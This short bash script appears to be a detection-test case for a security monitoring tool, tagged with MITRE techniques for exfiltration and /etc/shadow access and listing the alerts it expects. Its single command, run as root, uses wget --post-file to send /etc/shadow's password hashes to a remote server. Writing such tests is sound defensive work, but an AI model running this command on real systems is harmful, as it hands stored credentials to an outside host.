#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol; T1003.008 /etc/shadow
# behaviour: posts the password hashes straight from /etc/shadow to an outside server with wget --post-file
# as: root
# needs: remote
# expect: credential_access, new_destination
set -u
wget -q -O /dev/null --post-file=/etc/shadow "http://$SNTL_REMOTE/c" || true
